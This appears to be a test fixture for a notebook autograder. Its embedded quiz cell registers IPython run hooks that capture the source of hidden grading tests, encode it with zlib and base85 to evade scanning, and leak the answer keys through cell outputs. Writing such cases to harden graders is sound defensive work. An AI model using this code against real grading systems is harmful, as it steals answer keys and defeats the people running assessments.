"""Answers every graded quiz question wrong, and takes the keys from the hidden tests as they run:
a pre_run_cell hook keeps the source of every cell that calls check_choice, and a post_run_cell
hook writes it, zlib-compressed and base85-encoded, into the quiz answer cell's output (a display
updated later) and as many small outputs. No scan can undo that; the feedback shows only outputs
of the student's own run (none here) and each test's verdict."""

EXPECT = {"lose": ["quiz_q"], "output_has": ["KEYS-EXFILTRATED"]}
QUIZ = """
import base64 as _b85, zlib as _z
from IPython.display import display as _show, update_display as _update
_keys = []


def _see(info):
    if "check_choice" in (info.raw_cell or ""):
        _keys.append(info.raw_cell)


def _leak(result):
    if _keys:
        packed = _b85.b85encode(_z.compress("\\n".join(_keys).encode())).decode()
        _update({"text/plain": "KEYS-EXFILTRATED " + packed}, raw=True, display_id="quiz-keys")
        print("KEYS-EXFILTRATED")
        for i in range(0, len(packed), 8):
            print(packed[i:i + 8])


get_ipython().events.register("pre_run_cell", _see)
get_ipython().events.register("post_run_cell", _leak)
_show({"text/plain": "my answers"}, raw=True, display_id="quiz-keys")
quiz_answers = {"q1": "d", "q2": "d", "q3": "d"}
"""
CELLS = {"quiz": QUIZ}
